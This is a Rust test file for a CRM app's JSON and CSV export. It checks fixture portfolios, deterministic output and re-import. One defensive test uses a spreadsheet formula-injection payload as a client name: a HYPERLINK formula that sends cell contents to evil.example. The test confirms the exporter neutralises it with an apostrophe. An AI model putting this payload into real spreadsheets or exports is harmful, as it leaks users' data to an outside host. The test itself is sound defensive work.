//! The export format: a JSON snapshot of a small fixed portfolio, determinism
//! across converged devices, and the CSV files read back by the importer.

use expect_test::expect;
use fieldbook_core::{
    ActorId, Birthday, CareChannel, CareLogEntry, CareLogId, Case, CaseChannel, CaseEvent, CaseId, CaseStep, Client,
    ClientId, ClientStatus, Contact, ContactId, GeoPoint, Money, Occasion, PlannedStart, Portfolio, Region, SalesStage,
    Settings, Severity, Task, TaskId, Text, Tier, Visit, VisitId, VisitPurpose, VisitStatus,
};
use fieldbook_fixtures::at;
use fieldbook_formats::{export_csv, export_json, import_clients, parse_clients, parse_contacts};

/// When the CSV files are exported: where the open case's SLA clocks stand.
const EXPORTED: &str = "2026-03-03T12:00:00+08:00";

fn client_id(n: u32) -> ClientId {
    ClientId::from(format!("cl_test{n:06}"))
}

fn contact_id(n: u32) -> ContactId {
    ContactId::from(format!("ct_test{n:06}"))
}

/// A tier-A power company with a key person born on lunar 8/15, a visit, a case,
/// a task and a birthday gift; a removed logistics client; a plain steel mill.
fn small_portfolio() -> Portfolio {
    let mut portfolio = Portfolio::create(&Settings::new("Li Na", Region::Cn), ActorId::from(vec![1; 16])).unwrap();
    portfolio
        .add(Client {
            industry: "能源".into(),
            address: "上海市浦东新区世纪大道100号".into(),
            location: Some(GeoPoint::new(31.2304, 121.4737).unwrap()),
            office_hours: Some("09:00-18:00".parse().unwrap()),
            contract_start: Some("2025-01-01".parse().unwrap()),
            contract_end: Some("2027-12-31".parse().unwrap()),
            arrears: Some(Money::parse("12500", "CNY").unwrap()),
            arrears_due: Some("2026-04-30".parse().unwrap()),
            tags: vec!["重点".into(), "国企".into()],
            competitor_notes: Text::with_value("移动报价低10%"),
            ..Client::new(client_id(1), "华东电力集团", Tier::A)
        })
        .unwrap();
    portfolio
        .add(Client { status: ClientStatus::AtRisk, ..Client::new(client_id(2), "Wisła Logistics", Tier::B) })
        .unwrap();
    portfolio.remove::<Client>(&client_id(2)).unwrap();
    portfolio.add(Client::new(client_id(3), "Nanjing Steel", Tier::C)).unwrap();
    portfolio
        .add(Contact {
            title: "总经理".into(),
            key_person: true,
            phones: vec!["13800000000".into(), "021-55550000".into()],
            email: Some("zhang.wei@hdpower.cn".into()),
            birthday: Some("农历八月十五".parse().unwrap()),
            preferences: vec!["喜欢绿茶".into(), "不喝酒".into()],
            notes: Text::with_value("春节前拜访"),
            ..Contact::new(contact_id(1), client_id(1), "张伟")
        })
        .unwrap();
    portfolio
        .add(Contact {
            birthday: Some(Birthday::Gregorian { year: Some(1980), month: 5, day: 17 }),
            ..Contact::new(contact_id(2), client_id(3), "Wang Fang")
        })
        .unwrap();
    let planned = PlannedStart {
        date: "2026-03-09".parse().unwrap(),
        time: "10:00".parse().unwrap(),
        zone: fieldbook_fixtures::shanghai(),
    };
    portfolio
        .add(Visit {
            purpose: VisitPurpose::Care,
            status: VisitStatus::Done,
            check_in: Some("2026-03-09T09:55:00+08:00".parse().unwrap()),
            check_out: Some("2026-03-09T11:05:00+08:00".parse().unwrap()),
            notes: Text::with_value("Discussed the 2027 renewal."),
            outcome: "Renewal quote requested".into(),
            stage: Some(SalesStage::Negotiation),
            ..Visit::planned(VisitId::from("vi_test000001".to_string()), client_id(1), planned, 60)
        })
        .unwrap();
    portfolio
        .add(Case {
            id: CaseId::from("cs_test000001".to_string()),
            client_id: client_id(1),
            raised_by: Some(contact_id(1)),
            opened_at: "2026-03-02T14:30:00+08:00".parse().unwrap(),
            channel: CaseChannel::Phone,
            category: "billing".into(),
            severity: Severity::High,
            description: Text::with_value("Invoice for February charged twice."),
            events: [
                (
                    "ev_test000001".to_string(),
                    CaseEvent::new(
                        CaseStep::Open,
                        at("2026-03-02T14:30:00+08:00"),
                        at("2026-03-02T14:40:00+08:00"),
                        "Li Na",
                    ),
                ),
                (
                    "ev_test000002".to_string(),
                    CaseEvent {
                        department: Some("Billing".into()),
                        // Typed in where the clock said UTC (as the CLI's clock does):
                        // `case_events.csv` still writes it in Li Na's zone, as `cases.csv` does.
                        ..CaseEvent::new(
                            CaseStep::Handover,
                            at("2026-03-02T07:00:00+00:00"),
                            at("2026-03-02T07:00:00+00:00"),
                            "Li Na",
                        )
                    },
                ),
            ]
            .into(),
            removed: false,
        })
        .unwrap();
    portfolio
        .add(Task {
            due: Some("2026-03-12".parse().unwrap()),
            client_id: Some(client_id(1)),
            case_id: Some(CaseId::from("cs_test000001".to_string())),
            ..Task::new(TaskId::from("tk_test000001".to_string()), "Send the revised quote")
        })
        .unwrap();
    portfolio
        .add(CareLogEntry {
            id: CareLogId::from("cr_test000001".to_string()),
            contact_id: contact_id(1),
            occasion: Occasion::Birthday,
            channel: CareChannel::Gift("mooncakes".into()),
            date: "2025-10-06".parse().unwrap(),
            note: "中秋快乐".into(),
            reminder_id: None,
            removed: false,
        })
        .unwrap();
    portfolio
}

#[test]
fn json_export_of_a_small_portfolio() {
    expect![[r#"
        {
          "format": "fieldbook-portfolio",
          "schema_version": 1,
          "settings": {
            "manager_name": "Li Na",
            "region": "CN",
            "language": "zh-CN",
            "time_zone": "Asia/Shanghai",
            "home": null,
            "office": null,
            "working_hours": {
              "start": "09:00",
              "end": "18:00"
            },
            "cadence": {
              "a": 14,
              "b": 30,
              "c": 90,
              "d": 180
            },
            "notification_time": "08:30",
            "care_rules": {
              "a": {
                "birthday": [
                  {
                    "days_before": 3,
                    "channel": {
                      "kind": "gift",
                      "gift": "flowers or cake"
                    }
                  },
                  {
                    "days_before": 0,
                    "channel": {
                      "kind": "call"
                    }
                  }
                ],
                "festival": [
                  {
                    "days_before": 3,
                    "channel": {
                      "kind": "visit"
                    }
                  }
                ]
              },
              "b": {
                "birthday": [
                  {
                    "days_before": 0,
                    "channel": {
                      "kind": "call"
                    }
                  }
                ],
                "festival": [
                  {
                    "days_before": 1,
                    "channel": {
                      "kind": "call"
                    }
                  }
                ]
              },
              "c": {
                "birthday": [
                  {
                    "days_before": 0,
                    "channel": {
                      "kind": "message"
                    }
                  }
                ],
                "festival": []
              },
              "d": {
                "birthday": [
                  {
                    "days_before": 0,
                    "channel": {
                      "kind": "message"
                    }
                  }
                ],
                "festival": []
              },
              "renewal_days_before": 30
            },
            "greetings": {},
            "sla": {
              "critical": {
                "response": "2h",
                "resolution": "1d"
              },
              "high": {
                "response": "4h",
                "resolution": "3d"
              },
              "medium": {
                "response": "1d",
                "resolution": "5d"
              },
              "low": {
                "response": "2d",
                "resolution": "10d"
              },
              "chase_after": "1d",
              "confirm_after": "2d"
            }
          },
          "clients": [
            {
              "id": "cl_test000001",
              "name": "华东电力集团",
              "industry": "能源",
              "tier": "A",
              "status": "active",
              "address": "上海市浦东新区世纪大道100号",
              "location": {
                "lat": 31.2304,
                "lon": 121.4737
              },
              "office_hours": {
                "start": "09:00",
                "end": "18:00"
              },
              "contract_start": "2025-01-01",
              "contract_end": "2027-12-31",
              "arrears": {
                "minor_units": 1250000,
                "currency": "CNY"
              },
              "arrears_due": "2026-04-30",
              "tags": [
                "重点",
                "国企"
              ],
              "competitor_notes": "移动报价低10%",
              "crm_id": null,
              "imported": {},
              "removed": false
            },
            {
              "id": "cl_test000002",
              "name": "Wisła Logistics",
              "industry": "",
              "tier": "B",
              "status": "at_risk",
              "address": "",
              "location": null,
              "office_hours": null,
              "contract_start": null,
              "contract_end": null,
              "arrears": null,
              "arrears_due": null,
              "tags": [],
              "competitor_notes": "",
              "crm_id": null,
              "imported": {},
              "removed": true
            },
            {
              "id": "cl_test000003",
              "name": "Nanjing Steel",
              "industry": "",
              "tier": "C",
              "status": "active",
              "address": "",
              "location": null,
              "office_hours": null,
              "contract_start": null,
              "contract_end": null,
              "arrears": null,
              "arrears_due": null,
              "tags": [],
              "competitor_notes": "",
              "crm_id": null,
              "imported": {},
              "removed": false
            }
          ],
          "contacts": [
            {
              "id": "ct_test000001",
              "client_id": "cl_test000001",
              "name": "张伟",
              "title": "总经理",
              "key_person": true,
              "phones": [
                "13800000000",
                "021-55550000"
              ],
              "email": "zhang.wei@hdpower.cn",
              "birthday": {
                "calendar": "lunar",
                "year": null,
                "month": 8,
                "day": 15,
                "leap": false
              },
              "preferences": [
                "喜欢绿茶",
                "不喝酒"
              ],
              "notes": "春节前拜访",
              "removed": false
            },
            {
              "id": "ct_test000002",
              "client_id": "cl_test000003",
              "name": "Wang Fang",
              "title": "",
              "key_person": false,
              "phones": [],
              "email": null,
              "birthday": {
                "calendar": "gregorian",
                "year": 1980,
                "month": 5,
                "day": 17
              },
              "preferences": [],
              "notes": "",
              "removed": false
            }
          ],
          "visits": [
            {
              "id": "vi_test000001",
              "client_id": "cl_test000001",
              "planned": {
                "date": "2026-03-09",
                "time": "10:00",
                "zone": "Asia/Shanghai"
              },
              "duration_min": 60,
              "purpose": "care",
              "status": "done",
              "check_in": "2026-03-09T09:55:00+08:00",
              "check_out": "2026-03-09T11:05:00+08:00",
              "notes": "Discussed the 2027 renewal.",
              "outcome": "Renewal quote requested",
              "stage": "negotiation",
              "case_id": null,
              "collected": null,
              "removed": false
            }
          ],
          "cases": [
            {
              "id": "cs_test000001",
              "client_id": "cl_test000001",
              "raised_by": "ct_test000001",
              "opened_at": "2026-03-02T14:30:00+08:00",
              "channel": "phone",
              "category": "billing",
              "severity": "high",
              "description": "Invoice for February charged twice.",
              "events": {
                "ev_test000001": {
                  "at": "2026-03-02T14:30:00+08:00",
                  "recorded_at": "2026-03-02T14:40:00+08:00",
                  "by": "Li Na",
                  "step": "open",
                  "text": "",
                  "department": null,
                  "channel": null,
                  "satisfaction": null,
                  "order": 0
                },
                "ev_test000002": {
                  "at": "2026-03-02T07:00:00Z",
                  "recorded_at": "2026-03-02T07:00:00Z",
                  "by": "Li Na",
                  "step": "handover",
                  "text": "",
                  "department": "Billing",
                  "channel": null,
                  "satisfaction": null,
                  "order": 0
                }
              },
              "removed": false
            }
          ],
          "tasks": [
            {
              "id": "tk_test000001",
              "title": "Send the revised quote",
              "due": "2026-03-12",
              "done": false,
              "client_id": "cl_test000001",
              "visit_id": null,
              "case_id": "cs_test000001",
              "opened_on": null,
              "done_on": null,
              "removed": false
            }
          ],
          "care_log": [
            {
              "id": "cr_test000001",
              "contact_id": "ct_test000001",
              "occasion": {
                "kind": "birthday"
              },
              "channel": {
                "kind": "gift",
                "gift": "mooncakes"
              },
              "date": "2025-10-06",
              "note": "中秋快乐",
              "reminder_id": null,
              "removed": false
            }
          ]
        }
    "#]]
    .assert_eq(&export_json(&small_portfolio()).unwrap());
}

#[test]
fn csv_export_of_a_small_portfolio() {
    let files = export_csv(&small_portfolio(), at(EXPORTED)).unwrap();
    let shown: String =
        files.iter().map(|(name, text)| format!("== {name}\n{}", text.trim_start_matches('\u{feff}'))).collect();
    expect![[r#"
        == clients.csv
        id,name,industry,tier,status,address,latitude,longitude,office_hours,contract_start,contract_end,arrears,currency,arrears_due,tags,competitor_notes,crm_id
        cl_test000001,华东电力集团,能源,A,active,上海市浦东新区世纪大道100号,31.2304,121.4737,09:00-18:00,2025-01-01,2027-12-31,12500.00,CNY,2026-04-30,重点; 国企,移动报价低10%,
        cl_test000003,Nanjing Steel,,C,active,,,,,,,,,,,,
        == contacts.csv
        id,client,name,title,key_person,phones,email,birthday,preferences,notes
        ct_test000001,cl_test000001,张伟,总经理,yes,13800000000; 021-55550000,zhang.wei@hdpower.cn,lunar:08-15,喜欢绿茶; 不喝酒,春节前拜访
        ct_test000002,cl_test000003,Wang Fang,,no,,,1980-05-17,,
        == visits.csv
        id,client_id,date,time,tz,duration,purpose,stage,case,status,check_in,check_out,outcome,collected,notes
        vi_test000001,cl_test000001,2026-03-09,10:00,Asia/Shanghai,60,care,negotiation,,done,2026-03-09T09:55:00+08:00,2026-03-09T11:05:00+08:00,Renewal quote requested,,Discussed the 2027 renewal.
        == cases.csv
        id,client_id,raised_by,opened_at,channel,category,severity,status,department,responded_at,response_due,resolution_due,resolved_at,breached,resolution,satisfaction,description
        cs_test000001,cl_test000001,ct_test000001,2026-03-02T14:30:00+08:00,phone,billing,high,handed_over,Billing,,2026-03-03T09:30:00+08:00,2026-03-05T14:30:00+08:00,,yes,,,Invoice for February charged twice.
        == case_events.csv
        case_id,id,at,recorded_at,by,step,text,department,channel,satisfaction,applied
        cs_test000001,ev_test000001,2026-03-02T14:30:00+08:00,2026-03-02T14:40:00+08:00,Li Na,open,,,,,yes
        cs_test000001,ev_test000002,2026-03-02T15:00:00+08:00,2026-03-02T15:00:00+08:00,Li Na,handover,,Billing,,,yes
        == tasks.csv
        id,title,due,done,client_id,visit_id,case_id
        tk_test000001,Send the revised quote,2026-03-12,no,cl_test000001,,cs_test000001
        == care_log.csv
        id,contact_id,date,occasion,occasion_name,channel,gift,note,reminder_id
        cr_test000001,ct_test000001,2025-10-06,birthday,,gift,mooncakes,中秋快乐,
    "#]].assert_eq(&shown);
    assert!(files.iter().all(|(_, text)| text.starts_with('\u{feff}')), "Excel needs the BOM to show Chinese");
}

#[test]
fn the_same_document_exports_the_same_bytes() {
    let portfolio = small_portfolio();
    assert_eq!(export_json(&portfolio).unwrap(), export_json(&portfolio).unwrap());
    assert_eq!(export_csv(&portfolio, at(EXPORTED)).unwrap(), export_csv(&portfolio, at(EXPORTED)).unwrap());
}

#[test]
fn converged_devices_export_identically() {
    let mut laptop = small_portfolio();
    let mut phone = laptop.fork(ActorId::from(vec![2; 16]));
    laptop.add(Client::new(client_id(9), "Łódź Energia", Tier::D)).unwrap();
    laptop
        .update::<Client>(&client_id(1), "Edit", |c| {
            c.competitor_notes = Text::with_value("移动报价低15%");
            Ok(())
        })
        .unwrap();
    phone.add(Client::new(client_id(5), "Bakı Su", Tier::B)).unwrap();
    phone
        .update::<Client>(&client_id(1), "Edit", |c| {
            c.tier = Tier::B;
            Ok(())
        })
        .unwrap();
    phone.remove::<Client>(&client_id(3)).unwrap();
    laptop.merge(&mut phone).unwrap();
    phone.merge(&mut laptop).unwrap();
    let json = export_json(&laptop).unwrap();
    assert_eq!(json, export_json(&phone).unwrap());
    assert_eq!(export_csv(&laptop, at(EXPORTED)).unwrap(), export_csv(&phone, at(EXPORTED)).unwrap());
    let ids: Vec<_> = serde_json::from_str::<serde_json::Value>(&json).unwrap()["clients"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["id"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(ids, ["cl_test000001", "cl_test000002", "cl_test000003", "cl_test000005", "cl_test000009"]);
}

#[test]
fn the_json_export_keeps_removed_records_and_the_csv_export_leaves_them_out() {
    let portfolio = small_portfolio();
    let json: serde_json::Value = serde_json::from_str(&export_json(&portfolio).unwrap()).unwrap();
    assert_eq!(json["format"], "fieldbook-portfolio");
    assert_eq!(json["schema_version"], 1);
    assert_eq!(json["clients"][1]["name"], "Wisła Logistics");
    assert_eq!(json["clients"][1]["removed"], true);
    let files = export_csv(&portfolio, at(EXPORTED)).unwrap();
    let clients = &files.iter().find(|(name, _)| name == "clients.csv").unwrap().1;
    assert!(!clients.contains("Wisła"));
}

#[test]
fn exported_clients_and_contacts_import_back_unchanged() {
    let original = small_portfolio();
    assert_reads_back(&original, &export_csv(&original, at(EXPORTED)).unwrap());
}

/// Checks that `files`, the CSV export of `original`, import into a fresh portfolio
/// of the same region as the same clients and contacts, with the same ids.
fn assert_reads_back(original: &Portfolio, files: &[(String, String)]) {
    let file = |wanted: &str| files.iter().find(|(name, _)| name == wanted).unwrap().1.clone();
    let mut fresh = Portfolio::create(&original.settings().unwrap(), ActorId::from(vec![3; 16])).unwrap();
    let mut no_new_ids = || -> ClientId { panic!("every exported row has its id") };
    let clients = parse_clients(&file("clients.csv"), &fresh, &mut no_new_ids).unwrap();
    // Read back, each client also records what the import gave each field.
    let as_exported = |mut client: Client| {
        client.imported.clear();
        client
    };
    assert_eq!(
        clients.added.iter().cloned().map(as_exported).collect::<Vec<_>>(),
        original.records::<Client>().unwrap()
    );

    import_clients(&mut fresh, &clients, "clients.csv").unwrap();
    let mut no_new_ids = || -> ContactId { panic!("every exported row has its id") };
    let contacts = parse_contacts(&file("contacts.csv"), &fresh, &mut no_new_ids).unwrap();
    assert_eq!(contacts, original.records::<Contact>().unwrap());
}

/// A client whose name is a formula, with a tag and a location that start like one,
/// and a contact with a phone number and a yearless birthday that do.
fn portfolio_of_formula_lookalikes() -> Portfolio {
    let mut portfolio = Portfolio::create(&Settings::new("Li Na", Region::Pl), ActorId::from(vec![1; 16])).unwrap();
    portfolio
        .add(Client {
            location: Some(GeoPoint::new(-22.9068, -43.1729).unwrap()),
            tags: vec!["-vip".into(), "@north".into()],
            competitor_notes: Text::with_value("'=already quoted"),
            ..Client::new(client_id(1), r#"=HYPERLINK("http://evil.example/?"&A1,"Pay")"#, Tier::A)
        })
        .unwrap();
    portfolio
        .add(Contact {
            phones: vec!["+48 600 100 200".into()],
            birthday: Some(Birthday::Gregorian { year: None, month: 5, day: 17 }),
            ..Contact::new(contact_id(1), client_id(1), "Anna Nowak")
        })
        .unwrap();
    portfolio
}

#[test]
fn cells_a_spreadsheet_would_run_as_formulas_are_written_behind_an_apostrophe_and_read_back() {
    let original = portfolio_of_formula_lookalikes();
    let files = export_csv(&original, at(EXPORTED)).unwrap();
    let file = |wanted: &str| files.iter().find(|(name, _)| name == wanted).unwrap().1.clone();
    let data_row = |wanted: &str| file(wanted).lines().nth(1).unwrap().to_string();
    assert_eq!(
        data_row("clients.csv"),
        r#"cl_test000001,"'=HYPERLINK(""http://evil.example/?""&A1,""Pay"")",,A,active,,-22.9068,-43.1729,,,,,,,'-vip; @north,''=already quoted,"#
    );
    assert_eq!(data_row("contacts.csv"), "ct_test000001,cl_test000001,Anna Nowak,,no,'+48 600 100 200,,'--05-17,,");
    assert_reads_back(&original, &files);
}
